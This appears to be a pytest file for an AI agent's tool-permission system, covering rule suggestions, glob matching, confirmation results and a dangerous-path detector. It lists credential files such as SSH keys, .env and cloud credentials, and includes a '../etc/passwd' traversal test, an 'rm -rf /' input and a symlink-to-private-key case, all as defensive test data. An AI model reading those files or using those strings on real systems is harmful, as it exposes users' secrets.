    exact, general = asked(EDITOR, {"path": path, "content": "hello"})
    assert exact.args == {"path": path, "content": "hello"}
    assert general == PermissionRule(tool="fs.edit", args={"path": dir_glob}, source="suggested")
    assert exact.matches("fs.edit", {"path": path, "content": "hello"})
    assert not exact.matches("fs.edit", {"path": similar, "content": "hello"})
    assert general.matches("fs.edit", {"path": path, "content": "other content"})
    assert general.matches("fs.edit", {"path": similar})
    assert not general.matches("fs.edit", {"path": different})


def test_other_arguments_generalise_to_the_whole_tool() -> None:
    t = make_tool("email.send", requires_confirmation=True)
    exact, general = asked(t, {"to": "bob@example.com", "body": "hi"})
    assert exact.args == {"to": "bob@example.com", "body": "hi"}
    assert general == PermissionRule(tool="email.send", source="suggested")
    assert not exact.matches("email.send", {"to": "eve@example.com", "body": "hi"})
    assert general.matches("email.send", {"to": "eve@example.com", "body": "hi"})
    assert not general.matches("email.other", {})


def test_no_arguments_gives_one_tool_wide_suggestion() -> None:
    (only,) = asked(make_tool("nuke", destructive=True), {})
    assert only == PermissionRule(tool="nuke", source="suggested")


@pytest.mark.parametrize(
    "value",
    [
        "rm *.txt",
        "echo ?",
        "ls [abc]",
        "a**b",
        "/ws/**",
        "x]y[z",
    ],
)
def test_exact_suggestion_is_glob_escaped(value: str) -> None:
    exact = asked(SHELL, {"command": value})[0]
    assert exact.matches("shell", {"command": value})
    for other in ("rm a.txt", "echo x", "ls a", "aXXb", "/ws/a", "xy", value + "x", "x" + value):
        assert not exact.matches("shell", {"command": other}), other


def test_exact_suggestion_of_a_glob_path_only_matches_itself() -> None:
    exact, _ = asked(EDITOR, {"path": "/w/*.py"})
    assert exact.matches("fs.edit", {"path": "/w/*.py"})
    assert not exact.matches("fs.edit", {"path": "/w/a.py"})


@pytest.mark.parametrize("value", [5, 1.5, True, None, [1, 2], {"a": [1, "*"]}])
def test_exact_suggestion_with_non_string_values(value: Any) -> None:
    exact = suggest_rules("t", {"v": value})[0]
    assert exact.matches("t", {"v": value})
    assert not exact.matches("t", {"v": "something else"})


def test_command_with_glob_characters_gets_only_the_escaped_exact_suggestion() -> None:
    # an unquoted glob expands to file names (a file named "-rf" becomes an option): no generalisation
    [exact] = asked(SHELL, {"command": "ls *.log old"})
    assert exact.matches("shell", {"command": "ls *.log old"})
    assert not exact.matches("shell", {"command": "ls a.log old"})


def test_suggested_rules_survive_json_round_trip() -> None:
    for r in asked(SHELL, {"command": "git push origin main"}):
        assert PermissionRule.from_dict(r.to_dict()) == r
        assert r.to_dict()["source"] == "suggested"


def test_accepting_a_suggestion_allows_the_call_and_similar_ones() -> None:
    args = {"command": "git push origin main"}
    exact, general = asked(SHELL, args)
    assert check(SHELL, args, session=[exact]).decision is A
    assert check(SHELL, {"command": "git push origin dev"}, session=[exact]).decision is Q
    assert check(SHELL, {"command": "git push origin dev"}, session=[general]).decision is A
    assert check(SHELL, {"command": "git reset --hard"}, session=[general]).decision is Q


def test_exact_suggestion_of_a_value_starting_with_re_prefix() -> None:
    exact = suggest_rules("db.query", {"query": "re:foo.*"})[0]
    assert exact.matches("db.query", {"query": "re:foo.*"})
    assert not exact.matches("db.query", {"query": "fooX*"})


def test_directory_suggestion_for_a_bare_file_name_matches_the_call() -> None:
    _, general = suggest_rules("fs.edit", {"path": "main.py"})
    assert general.matches("fs.edit", {"path": "main.py"})
    assert general.matches("fs.edit", {"path": "setup.py"})


@pytest.mark.parametrize("path", ["/proj/[id]/page.tsx", "/tmp/a*b/c.txt", "/tmp/what?/c.txt"])
def test_directory_suggestion_with_glob_characters_matches_the_call(path: str) -> None:
    _, general = suggest_rules("fs.edit", {"path": path})
    assert general.matches("fs.edit", {"path": path})


@pytest.mark.parametrize("command", ["git  push origin main", "'ls' -la --color=never src"])
def test_command_suggestion_matches_the_call_it_was_made_for(command: str) -> None:
    _, general = suggest_rules("shell", {"command": command})
    assert general.args is not None
    assert general.matches("shell", {"command": command})


def test_chained_command_gets_only_the_exact_suggestion() -> None:
    [exact] = suggest_rules("shell", {"command": 'cd "/my dir" && make'})
    assert exact.matches("shell", {"command": 'cd "/my dir" && make'})


# -- path rules and '..' -----------------------------------------------------------------------------


def test_double_star_rules_are_not_fooled_by_dotdot() -> None:
    allow = rule("fs.*", "allow", {"path": "/workspace/**"})
    deny = rule("fs.*", "deny", {"path": "/etc/**"})
    sneaky = {"path": "/workspace/../etc/passwd"}
    assert not allow.matches("fs.write", sneaky)
    assert deny.matches("fs.write", sneaky)


def test_double_star_with_glob_base_matches_the_directory_itself() -> None:
    assert rule("fs.read", args={"path": "/ws/*/**"}).matches("fs.read", {"path": "/ws/a"})


# -- ConfirmResult -----------------------------------------------------------------------------------


def test_confirm_result_coerce_flat_form() -> None:
    r = ConfirmResult.coerce(
        {
            "tool_call_id": "call_1",
            "confirmed": True,
            "input": {"command": "git status"},
            "rules": [{"tool": "shell", "args": {"command": "git *"}, "source": "session"}],
            "reason": "ok",
        }
    )
    assert r.confirmed is True
    assert r.tool_call_id == "call_1"
    assert r.edited_input == {"command": "git status"}
    assert isinstance(r.tool_call, ToolUseBlock)
    assert r.rules == [PermissionRule(tool="shell", args={"command": "git *"}, source="session")]
    assert r.reason == "ok"


def test_confirm_result_coerce_flat_form_without_input() -> None:
    r = ConfirmResult.coerce({"tool_call_id": "call_1", "confirmed": False})
    assert r.confirmed is False
    assert r.tool_call == "call_1"
    assert r.tool_call_id == "call_1"
    assert r.edited_input is None
    assert list(r.rules) == []
    assert r.reason == ""


def test_confirm_result_coerce_nested_tool_call_form() -> None:
    r = ConfirmResult.coerce(
        {"confirmed": True, "tool_call": {"id": "call_9", "name": "shell", "input": {"command": "ls"}}}
    )
    assert r.tool_call == ToolUseBlock(id="call_9", name="shell", input={"command": "ls"})
    assert r.tool_call_id == "call_9"
    assert r.edited_input == {"command": "ls"}


def test_confirm_result_nested_id_wins_and_top_level_input_wins() -> None:
    r = ConfirmResult.coerce(
        {
            "confirmed": True,
            "tool_call_id": "stale",
            "input": {"command": "edited"},
            "tool_call": {"id": "call_9", "name": "shell", "input": {"command": "original"}},
        }
    )
    assert r.tool_call_id == "call_9"
    assert r.edited_input == {"command": "edited"}
    assert isinstance(r.tool_call, ToolUseBlock) and r.tool_call.name == "shell"


def test_confirm_result_nested_form_without_input_keeps_only_the_id() -> None:
    r = ConfirmResult.coerce({"confirmed": True, "tool_call": {"id": "call_9", "name": "shell"}})
    assert r.tool_call == "call_9"
    assert r.edited_input is None


def test_confirm_result_coerce_passes_instances_through() -> None:
    r = ConfirmResult(confirmed=True, tool_call="c1")
    assert ConfirmResult.coerce(r) is r


@pytest.mark.parametrize(
    ("value", "match"),
    [
        ({"tool_call_id": "c1"}, "confirmed"),
        ({"tool_call_id": "c1", "confirmed": "yes"}, "confirmed"),
        ({"tool_call_id": "c1", "confirmed": 1}, "confirmed"),
        ({"tool_call_id": "c1", "confirmed": None}, "confirmed"),
        ({"confirmed": True}, "tool_call_id"),
        ({"confirmed": True, "tool_call_id": ""}, "tool_call_id"),
        ({"confirmed": True, "tool_call_id": 5}, "tool_call_id"),
        ({"confirmed": True, "tool_call": {"name": "shell", "input": {}}}, "tool_call_id"),
        ({"confirmed": True, "tool_call_id": "c1", "input": "rm -rf /"}, "object"),
        ({"confirmed": True, "tool_call_id": "c1", "input": ["a"]}, "object"),
        ({"confirmed": True, "tool_call": {"id": "c1", "input": 5}}, "object"),
        (["confirmed", True], "dict"),
        ("yes", "dict"),
        (None, "dict"),
    ],
)
def test_confirm_result_coerce_rejects_bad_input(value: Any, match: str) -> None:
    with pytest.raises(UserError, match=match):
        ConfirmResult.coerce(value)


def test_confirm_result_coerce_validates_rules() -> None:
    with pytest.raises(UserError):
        ConfirmResult.coerce({"tool_call_id": "c1", "confirmed": True, "rules": [{"tool": ""}]})


def test_confirm_result_properties_for_both_tool_call_forms() -> None:
    by_id = ConfirmResult(confirmed=False, tool_call="c1")
    assert by_id.tool_call_id == "c1" and by_id.edited_input is None
    block = ToolUseBlock(id="c2", name="shell", input={"command": "ls"})
    by_block = ConfirmResult(confirmed=True, tool_call=block)
    assert by_block.tool_call_id == "c2"
    assert by_block.edited_input == {"command": "ls"}


def test_confirm_result_to_dict() -> None:
    block = ToolUseBlock(id="c2", name="shell", input={"command": "ls"})
    r = ConfirmResult(
        confirmed=True,
        tool_call=block,
        rules=[PermissionRule(tool="shell", args={"command": "ls*"}, source="session")],
        reason="fine",
    )
    assert r.to_dict() == {
        "confirmed": True,
        "tool_call_id": "c2",
        "input": {"command": "ls"},
        "name": "shell",
        "rules": [{"tool": "shell", "decision": "allow", "source": "session", "args": {"command": "ls*"}}],
        "reason": "fine",
    }
    assert ConfirmResult(confirmed=False, tool_call="c1").to_dict() == {
        "confirmed": False,
        "tool_call_id": "c1",
        "rules": [],
    }


def test_confirm_result_dict_round_trip() -> None:
    block = ToolUseBlock(id="c2", name="shell", input={"command": "ls"})
    r = ConfirmResult(confirmed=True, tool_call=block, rules=[PermissionRule(tool="shell", decision=Q)])
    back = ConfirmResult.coerce(r.to_dict())
    assert back.confirmed is True
    assert back.tool_call_id == "c2"
    assert back.edited_input == {"command": "ls"}
    assert list(back.rules) == [PermissionRule(tool="shell", decision=Q)]
    plain = ConfirmResult(confirmed=False, tool_call="c1", reason="no")
    back = ConfirmResult.coerce(plain.to_dict())
    assert (back.confirmed, back.tool_call, list(back.rules), back.reason) == (False, "c1", [], "no")


def test_confirm_result_to_dict_accepts_rule_dicts() -> None:
    r = ConfirmResult(confirmed=True, tool_call="c1", rules=[{"tool": "x", "decision": "deny"}])  # type: ignore[list-item]
    assert r.to_dict()["rules"] == [{"tool": "x", "decision": "deny", "source": "config"}]


# -- PermissionContext -----------------------------------------------------------------------------


def test_permission_context_coerce_none_is_default() -> None:
    c = PermissionContext.coerce(None)
    assert c.mode is M.DEFAULT
    assert c.rules == ()
    assert c.workspace is None
    assert c.implicit and not PermissionContext().implicit and c != PermissionContext()


@pytest.mark.parametrize("mode", list(PermissionMode))
def test_permission_context_coerce_mode_and_name(mode: PermissionMode) -> None:
    assert PermissionContext.coerce(mode).mode is mode
    from_name = PermissionContext.coerce(mode.value)
    assert from_name.mode is mode
    assert isinstance(from_name.mode, PermissionMode)


def test_permission_context_coerce_passes_context_through() -> None:
    c = PermissionContext(mode=M.EXPLORE, rules=[rule("x")], workspace="/w")
    assert PermissionContext.coerce(c) is c


@pytest.mark.parametrize("garbage", ["sometimes", "DEFAULT", 42, 1.5, ["default"], {"mode": "default"}, object()])
def test_permission_context_coerce_garbage_is_user_error(garbage: Any) -> None:
    with pytest.raises(UserError, match="permission must be"):
        PermissionContext.coerce(garbage)


def test_permission_context_coerces_rules_and_mode() -> None:
    c = PermissionContext(
        mode="explore",  # type: ignore[arg-type]
        rules=[{"tool": "fs.*", "decision": "deny", "args": {"path": "/etc/**"}}, rule("shell", "ask")],  # type: ignore[list-item]
    )
    assert c.mode is M.EXPLORE
    assert isinstance(c.rules, tuple)
    assert c.rules == (
        PermissionRule(tool="fs.*", decision=D, args={"path": "/etc/**"}),
        PermissionRule(tool="shell", decision=Q),
    )
    assert all(isinstance(r, PermissionRule) for r in c.rules)


def test_permission_context_rule_dicts_are_validated() -> None:
    with pytest.raises(UserError):
        PermissionContext(rules=[{"tool": "x", "args": {"a": "re:["}}])  # type: ignore[list-item]


def test_permission_context_rules_from_dicts_take_effect() -> None:
    t = make_tool("fs.write")
    result = check(t, {"path": "/etc/hosts"}, rules=[{"tool": "fs.*", "decision": "deny", "args": {"path": "/etc/**"}}])
    assert result.decision is D


# -- dangerous paths -------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "path",
    [
        ".ssh/id_rsa",
        "/home/me/.ssh/id_ed25519",
        "~/.ssh/config",
        os.path.expanduser("~/.ssh/config"),
        ".env",
        ".env.local",
        "app/.env.production",
        "project/.git/config",
        ".git/HEAD",
        ".aws/credentials",
        "/home/me/.aws/config",
        "credentials.json",
        "secrets/credentials.json",
        ".npmrc",
        ".pypirc",
        ".netrc",
        ".git-credentials",
        ".kube/config",
        ".config/gcloud/application_default_credentials.json",
        ".docker/config.json",
        "keys/id_rsa",
        "/home/me/.SSH/ID_RSA",
        "C:\\Users\\me\\.ssh\\id_rsa",
        Path(".ssh") / "known_hosts",
    ],
)
def test_dangerous_paths(path: str | Path) -> None:
    assert is_dangerous_path(path) is True
    refusal = refuse_dangerous_path(path)
    assert refusal is not None
    assert refusal.decision is D
    assert os.path.basename(os.fspath(path).replace("\\", "/")) in refusal.reason
    assert "protected" in refusal.reason


@pytest.mark.parametrize(
    "path",
    [
        "src/main.py",
        "README.md",
        "environment.py",
        "src/environment.py",
        "env/bin/python",
        "docs/environments.md",
        ".gitignore",
        ".github/workflows/ci.yml",
        ".venv/lib/site.py",
        "ssh_helper.py",
        "my_credentials_doc.md",
        ".config/app/settings.toml",
        Path("src") / "pkg" / "mod.py",
    ],
)
def test_normal_paths_are_not_dangerous(path: str | Path) -> None:
    assert is_dangerous_path(path) is False
    assert refuse_dangerous_path(path) is None


def test_symlink_to_a_secret_is_dangerous(tmp_path: Path) -> None:
    ssh = tmp_path / "home" / ".ssh"
    ssh.mkdir(parents=True)
    (ssh / "deploy_key").write_text("-----BEGIN PRIVATE KEY-----\n")
    link = tmp_path / "innocent.txt"
    link.symlink_to(ssh / "deploy_key")
    assert is_dangerous_path(link) is True
    assert is_dangerous_path(str(link)) is True
    refusal = refuse_dangerous_path(link)
    assert refusal is not None and refusal.decision is D


def test_symlink_to_a_normal_file_is_not_dangerous(tmp_path: Path) -> None:
    target = tmp_path / "data.txt"
    target.write_text("x\n")
    link = tmp_path / "innocent.txt"
    link.symlink_to(target)
    assert is_dangerous_path(link) is False


def test_symlinked_directory_into_ssh_is_dangerous(tmp_path: Path) -> None:
    ssh = tmp_path / ".ssh"
    ssh.mkdir()
    (tmp_path / "keys").symlink_to(ssh, target_is_directory=True)
    assert is_dangerous_path(tmp_path / "keys" / "anything") is True


def test_refuse_dangerous_path_as_a_tool_check(tmp_path: Path) -> None:
    t = make_tool("fs.read", read_only=True, check_permission=lambda args, ctx: refuse_dangerous_path(args["path"]))
    assert check(t, {"path": "src/main.py"}).decision is A
    assert check(t, {"path": ".env"}).decision is D
    assert check(t, {"path": ".env"}, rules=[rule("fs.read")]).decision is D  # own check > allow rule
    assert check(t, {"path": "~/.ssh/id_rsa"}, mode=M.EXPLORE).decision is D


# -- unmatched rules, answers without a known tool, workspaces -----------------------------------------------


def test_unmatched_rules_lists_rules_naming_no_tool() -> None:
    rules = [rule("shell"), rule("run_command"), rule("mcp__github__*", "ask"), rule("read_*", "deny")]
    names = ["run_command", "read_file", "write_file"]
    assert unmatched_rules(rules, names) == [rules[0], rules[2]]
    assert unmatched_rules([], names) == []
    assert unmatched_rules(rules, []) == rules


def test_check_answer_rule_without_a_known_tool_is_conservative() -> None:
    assert check_answer_rule(rule("x"), tool=None, mode=M.DEFAULT) is not None  # the whole of an unknown tool
    assert check_answer_rule(rule("x", args={"to": "bob"}), tool=None, mode=M.DEFAULT) is None
    assert check_answer_rule(rule("x", args={"command": "*"}), tool=None, mode=M.DEFAULT) is not None
    assert check_answer_rule(rule("x", args={"to": "bob"}), tool=None, mode=M.EXPLORE) is not None
    assert check_answer_rule(rule("*", "deny"), tool=None, mode=M.EXPLORE) is None


def test_rule_matches_takes_relative_paths_from_the_workspace(tmp_path: Path) -> None:
    r = rule("fs.read", args={"path": "src/**"})
    assert r.matches("fs.read", {"path": str(tmp_path / "src" / "a.py")}, workspace=str(tmp_path))
    assert r.matches("fs.read", {"path": "src/a.py"}, workspace=str(tmp_path))
    assert not r.matches("fs.read", {"path": str(tmp_path / "src" / "a.py")}, workspace="/elsewhere")


def test_tool_workspace_wins_over_the_context_workspace(tmp_path: Path) -> None:
    (tmp_path / "a").mkdir()
    (tmp_path / "b").mkdir()
    t = make_tool("fs.read", read_only=True, workspace=str(tmp_path / "a"))
    deny = [rule("fs.read", "deny", {"path": "x.txt"})]
    assert check(t, {"path": str(tmp_path / "a" / "x.txt")}, rules=deny, workspace=str(tmp_path / "b")).decision is D
    assert check(t, {"path": str(tmp_path / "b" / "x.txt")}, rules=deny, workspace=str(tmp_path / "b")).decision is D
    exact = [rule("fs.read", "deny", {"path": "./x.txt"})]  # anchored: only the tool's own x.txt
    assert check(t, {"path": str(tmp_path / "b" / "x.txt")}, rules=exact, workspace=str(tmp_path / "b")).decision is A
